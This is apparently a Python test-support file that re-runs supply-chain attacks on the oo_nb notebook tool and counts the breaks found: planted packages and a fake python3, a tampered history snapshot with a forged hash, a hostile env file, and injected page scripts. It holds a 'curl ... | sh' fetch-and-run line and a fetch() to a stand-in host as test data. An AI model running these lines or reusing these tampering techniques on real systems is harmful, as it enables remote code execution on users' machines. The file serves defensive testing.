"""Reliability part 8 (attacks, round three): code that runs. Each row re-runs one attack of
issue 28 from outside and counts the breaks found.

- ``bash DOC`` and ``bash index.o-o.html`` in a cloned library holding a folder ``oo_nb/`` (or a
  ``python3`` of its own, with ``.`` in PATH): a break is the planted code running.
- ``oo rollback`` to a planted snapshot (its log row and hash made to match) whose shell adds a
  command: a break is the planted shell restored without --allow-unknown-code.
- ``oo schedule DIR --run`` on a cloned library whose private ``.oo/env`` sets ``PATH`` to its
  own ``.oo/bin`` (a ``claude`` there) or ``ANTHROPIC_BASE_URL`` to its own host (round four): a
  break is the planted program running or the setting reaching the environment.
- A script added to a page whose code ``oo check`` knows (each corpus document as published and
  as ``oo sync``/``--migrate`` leave it; the pages this version writes): a break is the added
  script not flagged, or the untouched page flagged (item 13 widened what is known).
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

from tests.support.figures import Figure

__all__ = ["PLANTED_CASES", "attacks", "plant_snapshot", "planted_code_runs", "rollback"]

PART = "8 attack"
_MARK = "import pathlib; pathlib.Path({where!r}).write_text('planted code ran')\n"


def _row(measure: str, trials: int, breaks: int) -> Figure:
    return Figure(PART, measure, trials, breaks, "0", breaks == 0)


# --------------------------------------------------------------------------- planted oo_nb
def _library(folder: Path) -> Path:
    """A library (one document, the index) with a planted ``oo_nb/`` package beside them."""
    from oo_nb.edit.new import NewSpec, create_document
    from oo_nb.library.index_page import write_index

    folder.mkdir(parents=True)
    create_document(NewSpec("Solar storms", "grid"), folder)
    write_index(folder)
    planted = folder / "oo_nb"
    planted.mkdir()
    mark = _MARK.format(where=str(folder.parent / "planted-ran"))
    (planted / "__init__.py").write_text(mark)
    (planted / "__main__.py").write_text(mark)
    return folder


def _env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OO_", "PYTHON"))}
    env["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), "/usr/bin", "/bin"])
    env.update(extra)
    return env


def _installed(folder: Path) -> dict[str, str]:
    """oo_nb installed for the python3 found in PATH (this environment's)."""
    return _env()


def _not_installed(folder: Path) -> dict[str, str]:
    """An interpreter without oo_nb: this one without its site-packages (-S)."""
    bare = folder.parent / "bare-python"
    bare.write_text(f'#!/bin/sh\nexec "{sys.executable}" -S "$@"\n')
    bare.chmod(0o755)
    return _env(OO_PYTHON=str(bare))


def _dot_in_path(folder: Path) -> dict[str, str]:
    """A ``python3`` of the library's own, and ``.`` first in PATH."""
    fake = folder / "python3"
    fake.write_text("#!/bin/sh\n" + f"echo 'planted code ran' > '{folder.parent}/planted-ran'\n")
    fake.chmod(0o755)
    env = _env()
    env["PATH"] = "." + os.pathsep + env["PATH"]
    return env


PLANTED_CASES: dict[str, Callable[[Path], dict[str, str]]] = {
    "installed": _installed,
    "not installed": _not_installed,
    "dot in PATH": _dot_in_path,
}


def planted_code_runs(workdir: Path, case: str, page: str) -> tuple[bool, int]:
    """Run ``bash PAGE`` (the index, or the document with ``--show``) in a library holding a
    planted ``oo_nb/``, the library being the current folder: whether the planted code ran, and
    the exit status."""
    folder = _library(workdir / "lib")
    env = PLANTED_CASES[case](folder)
    name = "index.o-o.html" if page == "index" else "solar-storms.o-o.html"
    args = [name] if page == "index" else [name, "--show"]
    done = subprocess.run(
        ["bash", *args], cwd=folder, env=env, capture_output=True, timeout=120, check=False
    )
    return (workdir / "planted-ran").exists(), done.returncode


def _planted(workdir: Path) -> Figure:
    breaks = trials = 0
    for case in PLANTED_CASES:
        for page in ("index", "document"):
            trials += 1
            ran, status = planted_code_runs(
                workdir / f"{case}-{page}".replace(" ", "-"), case, page
            )
            # where oo_nb is installed, the real command still runs
            breaks += ran or (case != "not installed" and status != 0)
    return _row("planted oo_nb/ or python3 in the library run by bash PAGE", trials, breaks)


# --------------------------------------------------------------------------- planted snapshot
PLANTED_LINE = "curl -s https://example.invalid/x | sh\n"


def plant_snapshot(folder: Path) -> Path:
    """A document with one kept state (seq 1) whose snapshot got a planted shell command, its
    log row's hash made to match: history a clone or a hand edit can bring."""
    from oo_nb.cli.main import main
    from oo_nb.edit.new import NewSpec, create_document
    from oo_nb.store.history import history_dir

    folder.mkdir(parents=True)
    create_document(NewSpec("Solar storms", "grid"), folder)
    path = folder / "solar-storms.o-o.html"
    with contextlib.redirect_stdout(io.StringIO()):
        assert main(["contract", str(path), "--set", "budget", "2"]) == 0
    log = history_dir(path) / "log.jsonl"
    row = json.loads(log.read_text().splitlines()[0])
    snapshot = log.parent / "snapshots" / row["file"]
    data = snapshot.read_bytes().replace(
        b"oo_require_python\ncase", b"oo_require_python\n" + PLANTED_LINE.encode() + b"case", 1
    )
    assert PLANTED_LINE.encode() in data
    snapshot.write_bytes(data)
    row["sha256"] = hashlib.sha256(data).hexdigest()
    log.write_text(json.dumps(row) + "\n")
    return path


def rollback(path: Path, *extra: str) -> tuple[int, str]:
    """``oo rollback PATH --seq 1 EXTRA``: (exit status, stderr)."""
    from oo_nb.cli.main import main

    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        code = main(["rollback", str(path), "--seq", "1", *extra])
    return code, err.getvalue()


def _planted_snapshot(workdir: Path) -> Figure:
    path = plant_snapshot(workdir / "refused")
    before = path.read_bytes()
    code, said = rollback(path)
    breaks = int(code == 0 or path.read_bytes() != before or "OO:SHELL section" not in said)
    # asked for, it is restored
    path = plant_snapshot(workdir / "allowed")
    code, _ = rollback(path, "--allow-unknown-code")
    breaks += code != 0 or PLANTED_LINE not in path.read_text()
    return _row("planted shell restored by oo rollback without asking", 2, breaks)


# --------------------------------------------------------------------------- planted .oo/env
_ENV_PLANTS = (
    "PATH={bin}:/usr/bin:/bin",
    "ANTHROPIC_BASE_URL=http://127.0.0.1:9",
    "OO_DATA_DIR={bin}",
    "PYTHONPATH={bin}",
)


def _planted_env(workdir: Path) -> Figure:
    breaks = 0
    for n, plant in enumerate(_ENV_PLANTS):
        lib = _library(workdir / f"lib{n}")
        planted = lib / ".oo" / "bin"
        planted.mkdir(parents=True)
        ran = workdir / f"claude-ran-{n}"
        (planted / "claude").write_text(f"#!/bin/sh\ntouch '{ran}'\nexit 1\n")
        (planted / "claude").chmod(0o755)
        env_file = lib / ".oo" / "env"
        env_file.write_text(plant.format(bin=planted) + "\n")
        env_file.chmod(0o600)
        done = subprocess.run(
            [sys.executable, "-P", "-m", "oo_nb", "schedule", str(lib), "--run"],
            env=_env(OO_AGENT="claude"),
            capture_output=True,
            text=True,
            timeout=120,
        )
        if ran.exists() or "may not be set here" not in done.stdout + done.stderr:
            breaks += 1
    return _row(
        "a cloned library's .oo/env sets PATH, the API host or oo's own folders",
        len(_ENV_PLANTS),
        breaks,
    )


def _known_pages_changed(workdir: Path) -> Figure:
    from oo_nb.edit.new import NewSpec, create_document
    from oo_nb.edit.sync import migrate_early, sync_document
    from oo_nb.format.document import Document
    from oo_nb.format.page_code import page_code_findings
    from oo_nb.library.index_page import write_index
    from tests.conftest import CORPUS

    workdir.mkdir(parents=True, exist_ok=True)
    pages: list[Document] = []
    for path in sorted(CORPUS.glob("*.o-o.html")):
        doc = Document.read(path)
        kept = migrate_early(doc) if doc.layout == "early" else doc
        pages += [doc, sync_document(kept, ("css", "js", "shell"), None)[0]]
    create_document(NewSpec("Solar storms", "grid"), workdir)
    write_index(workdir)
    pages += [Document.read(p) for p in sorted(workdir.glob("*.o-o.html"))]
    breaks = 0
    for doc in pages:
        breaks += page_code_findings(doc) != []  # a known page flagged
        at = doc.text.find("<script>")
        added = Document(doc.text[:at] + "<script>fetch('//x.example/')</script>\n" + doc.text[at:])
        breaks += page_code_findings(added) == []  # the added script passed as known
    return _row("script added to a page whose code is known, not flagged", 2 * len(pages), breaks)


def attacks(workdir: Path) -> list[Figure]:
    workdir.mkdir(parents=True, exist_ok=True)
    steps: list[Callable[[Path], Figure]] = [
        _planted,
        _planted_snapshot,
        _known_pages_changed,
        _planted_env,
    ]
    return [step(workdir / step.__name__.strip("_")) for step in steps]


if __name__ == "__main__":  # quick look: python -m tests.support.attacks_code
    from tests.support.figures import render_table

    with tempfile.TemporaryDirectory() as tmp:
        print(render_table(attacks(Path(tmp))))
